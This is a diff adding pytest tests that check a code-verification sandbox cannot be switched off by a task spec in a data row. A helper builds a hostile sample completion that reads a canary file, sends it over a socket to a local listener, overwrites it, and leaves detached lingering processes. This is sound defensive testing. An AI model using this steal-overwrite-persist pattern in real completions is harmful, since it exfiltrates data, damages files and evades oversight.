@@ -10,6 +10,7 @@ that a test that passes shows the sandbox at work, not an attack that never work
 from __future__ import annotations
 
 import json
+import re
 import os
 import select
 import shlex
@@ -351,3 +352,87 @@ def test_the_unsafe_switch_is_explicit_and_warns(monkeypatch):
     monkeypatch.setattr(sandbox, "_warned", False)
     with pytest.warns(RuntimeWarning, match="WITHOUT a sandbox"):
         assert task.verify_batch([_item()] * 2, ["x*2+1", "x"]) == [True, False]
+
+
+# ---- issue 35: data cannot weaken the sandbox; threads bounded; hostile results ------------------
+
+def _steal_and_linger(canary: Path, port: int, token: str) -> str:
+    """A completion that reads `canary`, sends it to 127.0.0.1:`port`, overwrites it, and leaves two
+    `setsid` grandchildren sleeping with `token` in their command line."""
+    program = f"import time; time.sleep(3)  # {token}"
+    return _def(f"""
+import os, socket
+data = open({str(canary)!r}).read()
+socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(data.encode())
+open({str(canary)!r}, 'w').write('pwned')
+for _ in range(2):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv({PY!r}, [{PY!r}, '-c', {program!r}])
+        os._exit(0)
+return x*2+1
+""")
+
+
+def _code_row(task: str) -> dict:
+    from hpd.tasks import task_row
+
+    return {**task_row(_item()), "task": task}
+
+
+def test_a_data_row_cannot_switch_the_sandbox_off(tmp_path):
+    """A row's task spec `code:unsafe_no_sandbox=1` is refused, naming the row; nothing happens."""
+    from hpd.verifiers import TaskVerifier, get_verifier
+
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen(8)
+        port = server.getsockname()[1]
+        # The control: the person's own switch runs the completion unsandboxed, and it does all three.
+        control, control_token = tmp_path / "control", uuid.uuid4().hex
+        control.write_text("control secret")
+        attack = _steal_and_linger(control, port, control_token)
+        assert TaskVerifier(CodeTask(workers=1, unsafe_no_sandbox=True)).verify_batch([_code_row("code")], [attack]) == [True]
+        assert select.select([server], [], [], 2.0)[0], "the attack cannot connect even without the sandbox"
+        conn = server.accept()[0]
+        assert conn.recv(100) == b"control secret"
+        conn.close()
+        while select.select([server], [], [], 0.5)[0]:  # the control's later connections (one per input)
+            server.accept()[0].close()
+        # (the resource limit on file size leaves it truncated rather than rewritten: changed all the same)
+        assert control.read_text() != "control secret" and _processes_with(control_token)
+
+        canary, token, secret = tmp_path / "canary", uuid.uuid4().hex, uuid.uuid4().hex
+        canary.write_text(secret)
+        attack = _steal_and_linger(canary, port, token)
+        with pytest.raises(HPDError, match=r"row 0 \(0-based\).*'code:unsafe_no_sandbox=1'.*may set only") as e:
+            get_verifier("task").verify_batch([_code_row("code:unsafe_no_sandbox=1")], [attack])
+        assert "\n" not in str(e.value) and "HPD_CODE_UNSAFE_NO_SANDBOX" in str(e.value)
+        assert canary.read_text() == secret, "the completion wrote the canary"
+        assert not select.select([server], [], [], 0.5)[0], "the completion reached the listener"
+        time.sleep(0.2)
+        assert _processes_with(token) == [], "the completion left processes behind"
+    for pid in _processes_with(control_token):  # the control's sleepers (ours): end them now
+        try:
+            os.kill(pid, 9)
+        except ProcessLookupError:
+            pass
+
+
+@pytest.mark.parametrize("spec", ["code:timeout_s=1000", "code:memory_mb=100000", "code:workers=512",
+                                  "code:kinds=int,unsafe_no_sandbox=0"])
+def test_a_data_row_sets_only_problem_parameters(spec):
+    from hpd.verifiers import get_verifier
+
+    with pytest.raises(HPDError, match=rf"row 1 \(0-based\).*{re.escape(spec)}.*may set only .*kinds, max_ops"):
+        get_verifier("task").check_rows([_code_row("code:kinds=int"), _code_row(spec)])
+
+
+def test_problem_parameters_in_a_data_row_still_work():
+    from hpd.tasks import task_row
+    from hpd.verifiers import get_verifier
+
+    math = get_task("math:steps=3").generate("test", 1, seed=0)[0]
+    rows = [_code_row("code"), _code_row("code:kinds=int,max_ops=2"), {**task_row(math), "task": "math:steps=3"}]
+    assert get_verifier("task").verify_batch(rows, ["x*2+1", "x*2", math.reference]) == [True, False, True]
